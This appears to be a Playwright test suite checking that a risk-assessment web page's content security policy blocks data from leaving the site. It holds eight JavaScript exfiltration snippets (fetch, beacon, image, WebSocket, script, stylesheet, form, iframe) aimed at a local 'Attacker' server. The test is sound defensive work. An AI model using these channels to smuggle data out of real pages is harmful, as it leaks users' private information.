"""The browser itself refuses to let anything leave the site: shown by trying, with a host that would answer."""

import http.server
import threading
from collections.abc import Iterator

import pytest
from assessment_page import AssessmentPage
from conftest import Watch
from playwright.sync_api import Page
from waiting import until

UNPROTECTED = "/assessing-risk/answers.schema.json"
WAYS = {
    "fetch": "address => fetch(address).then(() => 'sent', () => 'refused')",
    "beacon": "address => navigator.sendBeacon(address, 'x') ? 'asked' : 'refused'",
    "image": """address => new Promise(done => { const image = new Image();
        image.onload = () => done('sent'); image.onerror = () => done('refused'); image.src = address; })""",
    "socket": """address => new Promise(done => {
        try { const socket = new WebSocket(address.replace('http', 'ws'));
          socket.onopen = () => done('sent'); socket.onerror = () => done('refused'); }
        catch { done('refused'); } })""",
    "script": """address => new Promise(done => { const script = document.createElement('script');
        script.onload = () => done('sent'); script.onerror = () => done('refused');
        try { script.src = address; } catch { done('refused'); }  // Trusted Types
        document.head.append(script); })""",
    "style sheet": """address => new Promise(done => { const link = document.createElement('link');
        link.rel = 'stylesheet'; link.onload = () => done('sent'); link.onerror = () => done('refused');
        link.href = address; document.head.append(link); })""",
    "form": """address => { const form = document.createElement('form'); form.action = address;
        form.method = 'post'; document.body.append(form); form.submit(); return 'asked'; }""",
    "frame": """address => { const frame = document.createElement('iframe'); frame.src = address;
        document.body.append(frame); return 'asked'; }""",
}


class Attacker(http.server.ThreadingHTTPServer):
    """A server on this machine that takes everything and remembers what came."""

    def __init__(self) -> None:
        """Listen on a free port."""
        self.heard: list[str] = []
        super().__init__(("127.0.0.1", 0), _Answer)


class _Answer(http.server.BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        """Answer everything alike."""
        self.server.heard.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()

    do_POST = do_GET  # noqa: N815  (the library looks for this name)

    def log_message(self, *_: object) -> None:
        """Keep quiet."""


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    """Listen for whatever gets out."""
    server = Attacker()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


@pytest.mark.parametrize("way", WAYS)
def test_a_way_out_is_live_without_the_policy_and_shut_with_it(
    page: Page, watch: Watch, attacker: Attacker, way: str
) -> None:
    watch.expect(".")
    address = f"http://127.0.0.1:{attacker.server_address[1]}/{way.replace(' ', '-')}"
    # A file of the site that is no page has no policy.
    page.goto(UNPROTECTED)
    page.evaluate(WAYS[way], f"{address}?unprotected")
    until(page, lambda: any("unprotected" in path for path in attacker.heard))

    # Another tab: a form or a frame may still be taking the first one elsewhere.
    page = page.context.new_page()
    AssessmentPage(page).open(wait=False)
    page.get_by_label("Client’s Name").fill("Sam Example")
    page.on("dialog", lambda dialog: dialog.dismiss())
    page.evaluate(WAYS[way], f"{address}?protected")
    page.wait_for_timeout(300)
    assert [path for path in attacker.heard if "?protected" in path] == []
